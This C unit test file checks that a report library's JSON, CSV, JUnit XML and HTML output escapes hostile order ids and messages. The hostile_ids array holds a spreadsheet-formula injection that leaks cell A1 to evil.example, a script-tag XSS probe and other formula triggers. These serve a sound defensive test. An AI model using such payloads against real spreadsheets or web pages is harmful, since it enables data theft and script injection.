/* test_report.c -- every report format parsed back by a real parser: JSON by jansson,
 * CSV by libcsv, JUnit XML by libxml2 against the JUnit schema, HTML checked for escaping.
 * Hostile order ids and messages (formulas, markup, quotes, newlines) go through all. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>
#include <csv.h>
#include <jansson.h>
#include <libxml/parser.h>
#include <libxml/xmlschemas.h>
#include "report/report.h"

static const char *const hostile_ids[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "<script>alert(1)</script>",
    "+SUM(1)",
    "-2+3",
    "@cmd",
    "\tTAB",
    "quote\"and,comma\nnewline",
};
#define NHOSTILE (sizeof(hostile_ids) / sizeof(hostile_ids[0]))

static fk_report *make_report(void)
{
    fk_report *r = NULL;
    fk_error err = FK_ERROR_INIT;
    fk_finding f[2] = {
        {FK_CODE_TAX_ID_CHECKSUM, "tax_id", "tax_id \"=1+1\": the check digit is wrong", NULL},
        {FK_CODE_COMPANY_NAME_INVALID, "company_name", "<b>bold</b> & \"quoted\"", NULL},
    };
    assert_int_equal(fk_report_new(&r, &err), FK_OK);
    static const char *const inputs[] = {"in.csv"};
    fk_report_set_batch(r, 7, "run", "2026-11-20T00:00:00Z", inputs, 1);
    for (size_t i = 0; i < NHOSTILE; i++) {
        fk_outcome_rec o = {hostile_ids[i], "in.csv", "EUR", (unsigned long)(i + 2),
                            FK_FAILED, 1250 + (int64_t)i, true, 2, f, 2};
        assert_int_equal(fk_report_add(r, &o, &err), FK_OK);
    }
    fk_outcome_rec ok = {"GOOD-1", "in.csv", "EUR", 20, FK_INVOICED, 10000, true, 2, NULL, 0};
    assert_int_equal(fk_report_add(r, &ok, &err), FK_OK);
    fk_outcome_rec held = {"HELD-1", "in.csv", "PLN", 21, FK_HELD, 99, true, 2, f, 1};
    assert_int_equal(fk_report_add(r, &held, &err), FK_OK);
    fk_report_add_recorded(r, "EUR", 10000);
    return r;
}

static void write_to(fk_report *r, fk_report_format fmt, const char *path, bool bom, char delim)
{
    fk_error err = FK_ERROR_INIT;
    fk_report_target t = {path, fmt};
    fk_report_options ro = {&t, 1, bom, delim};
    assert_int_equal(fk_report_write(r, &ro, &err), FK_OK);
}

static char *slurp(const char *path, size_t *n)
{
    FILE *fp = fopen(path, "rb");
    assert_non_null(fp);
    fseek(fp, 0, SEEK_END);
    long len = ftell(fp);
    rewind(fp);
    char *buf = malloc((size_t)len + 1);
    assert_int_equal(fread(buf, 1, (size_t)len, fp), (size_t)len);
    buf[len] = '\0';
    fclose(fp);
    if (n)
        *n = (size_t)len;
    return buf;
}

static void test_json(void **state)
{
    fk_report *r = make_report();
    char path[] = "/tmp/fk_report_XXXXXX";
    close(mkstemp(path));
    write_to(r, FK_REPORT_JSON, path, false, 0);
    json_error_t jerr;
    json_t *root = json_load_file(path, 0, &jerr);
    assert_non_null(root);
    assert_int_equal(json_integer_value(json_object_get(root, "version")), 1);
    json_t *sum = json_object_get(root, "summary");
    assert_int_equal(json_integer_value(json_object_get(sum, "orders")), NHOSTILE + 2);
    assert_int_equal(json_integer_value(json_object_get(sum, "failed")), NHOSTILE);
    assert_true(json_is_true(json_object_get(sum, "reconciled")));
    json_t *eur = json_object_get(json_object_get(sum, "totals"), "EUR");
    assert_string_equal(json_string_value(json_object_get(eur, "invoiced")), "100.00");
    assert_string_equal(json_string_value(json_object_get(eur, "recorded_invoices")), "100.00");
    json_t *orders = json_object_get(root, "orders");
    assert_int_equal(json_array_size(orders), NHOSTILE + 1);
    for (size_t i = 0; i < NHOSTILE; i++)
        assert_string_equal(json_string_value(json_object_get(json_array_get(orders, i),
                                                              "order_id")),
                            hostile_ids[i]);
    json_decref(root);
    unlink(path);
    fk_report_free(r);
}

typedef struct csv_rows {
    char cells[64][10][512];
    size_t nrows, ncol;
} csv_rows;

static void cb_field(void *s, size_t n, void *data)
{
    csv_rows *rows = data;
    if (rows->nrows < 64 && rows->ncol < 10)
        snprintf(rows->cells[rows->nrows][rows->ncol], 512, "%.*s", (int)n, (char *)s);
    rows->ncol++;
}

static void cb_row(int c, void *data)
{
    csv_rows *rows = data;
    (void)c;
    assert_int_equal(rows->ncol, 10);
    rows->nrows++;
    rows->ncol = 0;
}

static void parse_csv(const char *text, size_t n, char delim, csv_rows *rows)
{
    struct csv_parser p;
    memset(rows, 0, sizeof(*rows));
    csv_init(&p, CSV_STRICT | CSV_STRICT_FINI);
    csv_set_delim(&p, (unsigned char)delim);
    assert_int_equal(csv_parse(&p, text, n, cb_field, cb_row, rows), n);
    assert_int_equal(csv_fini(&p, cb_field, cb_row, rows), 0);
    csv_free(&p);
}

static void test_csv(void **state)
{
    fk_report *r = make_report();
    char path[] = "/tmp/fk_report_XXXXXX";
    size_t n;
    csv_rows *rows = malloc(sizeof(*rows));

    close(mkstemp(path));
    write_to(r, FK_REPORT_CSV, path, false, 0);
    char *text = slurp(path, &n);
    parse_csv(text, n, ',', rows);
    assert_int_equal(rows->nrows, 1 + 2 * NHOSTILE + 1); /* header, 2 findings each, held */
    assert_string_equal(rows->cells[0][0], "order_id");
    assert_string_equal(rows->cells[0][9], "hint");
    /* Every formula trigger is neutralised with a leading apostrophe, text kept whole. */
    for (size_t i = 0; i < NHOSTILE; i++) {
        const char *cell = rows->cells[1 + 2 * i][0];
        char c0 = hostile_ids[i][0];
        if (c0 == '=' || c0 == '+' || c0 == '-' || c0 == '@' || c0 == '\t') {
            assert_int_equal(cell[0], '\'');
            assert_string_equal(cell + 1, hostile_ids[i]);
        } else {
            assert_string_equal(cell, hostile_ids[i]);
        }
        assert_string_equal(rows->cells[1 + 2 * i][6], "TAX_ID_CHECKSUM");
        assert_string_equal(rows->cells[1 + 2 * i][7], "tax_id");
    }
    assert_string_equal(rows->cells[1][5], "12.50");
    free(text);

    /* Excel in European locales: BOM, ';' and decimal commas. */
    write_to(r, FK_REPORT_CSV, path, true, ';');
    text = slurp(path, &n);
    assert_memory_equal(text, "\xEF\xBB\xBF", 3);
    parse_csv(text + 3, n - 3, ';', rows);
    assert_string_equal(rows->cells[1][5], "12,50");
    free(text);
    free(rows);
    unlink(path);
    fk_report_free(r);
}

static void test_html(void **state)
{
    fk_report *r = make_report();
    char path[] = "/tmp/fk_report_XXXXXX";
    close(mkstemp(path));
    write_to(r, FK_REPORT_HTML, path, false, 0);
    char *html = slurp(path, NULL);
    assert_non_null(strstr(html, "&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert_null(strstr(html, "<script>alert"));
    assert_null(strstr(html, "<b>bold"));
    assert_non_null(strstr(html, "&lt;b&gt;bold&lt;/b&gt; &amp; &quot;quoted&quot;"));
    assert_non_null(strstr(html, "The books reconcile"));
    assert_non_null(strstr(html, "Fix the data (7 failed)"));
    assert_non_null(strstr(html, "Decide (1 held)"));
    assert_non_null(strstr(html, "<svg"));
    /* Self-contained: no external resource of any kind. */
    assert_null(strstr(html, "src=\"http"));
    assert_null(strstr(html, "href=\"http"));
    assert_null(strstr(html, "@import"));
    free(html);
    unlink(path);
    fk_report_free(r);
}

static void test_junit(void **state)
{
    fk_report *r = make_report();
    char path[] = "/tmp/fk_report_XXXXXX", xsd[1024];
    close(mkstemp(path));
    write_to(r, FK_REPORT_JUNIT, path, false, 0);

    snprintf(xsd, sizeof(xsd), "%s/tests/data/junit.xsd", getenv("FK_SRCDIR"));
    xmlSchemaParserCtxtPtr pc = xmlSchemaNewParserCtxt(xsd);
    xmlSchemaPtr schema = xmlSchemaParse(pc);
    assert_non_null(schema);
    xmlSchemaValidCtxtPtr vc = xmlSchemaNewValidCtxt(schema);
    xmlDocPtr doc = xmlReadFile(path, NULL, XML_PARSE_NONET);
    assert_non_null(doc);
    assert_int_equal(xmlSchemaValidateDoc(vc, doc), 0);
    xmlNodePtr suite = xmlDocGetRootElement(doc)->children;
    while (suite && suite->type != XML_ELEMENT_NODE)
        suite = suite->next;
    xmlChar *tests = xmlGetProp(suite, (const xmlChar *)"tests");
    xmlChar *failures = xmlGetProp(suite, (const xmlChar *)"failures");
    assert_string_equal((char *)tests, "9");    /* 8 orders without invoice + reconciliation */
    assert_string_equal((char *)failures, "8"); /* 7 failed + 1 held */
    xmlFree(tests);
    xmlFree(failures);
    xmlFreeDoc(doc);
    char *text = slurp(path, NULL);
    assert_non_null(strstr(text, "&lt;script&gt;"));
    assert_non_null(strstr(text, "TAX_ID_CHECKSUM [tax_id]"));
    free(text);
    xmlSchemaFreeValidCtxt(vc);
    xmlSchemaFree(schema);
    xmlSchemaFreeParserCtxt(pc);
    unlink(path);
    fk_report_free(r);
}

/* A report whose sums do not add up says so in every format. */
static void test_mismatch(void **state)
{
    fk_report *r = make_report();
    fk_summary s;
    fk_report_add_recorded(r, "EUR", 9999); /* the database disagrees by one cent */
    fk_report_summary(r, &s);
    assert_false(s.reconciled);
    char path[] = "/tmp/fk_report_XXXXXX";
    close(mkstemp(path));
    write_to(r, FK_REPORT_HTML, path, false, 0);
    char *html = slurp(path, NULL);
    assert_non_null(strstr(html, "MISMATCH"));
    free(html);
    unlink(path);
    fk_report_free(r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_json),  cmocka_unit_test(test_csv),
        cmocka_unit_test(test_html),  cmocka_unit_test(test_junit),
        cmocka_unit_test(test_mismatch),
    };
    int rc = cmocka_run_group_tests_name("report", tests, NULL, NULL);
    xmlCleanupParser();
    return rc;
}
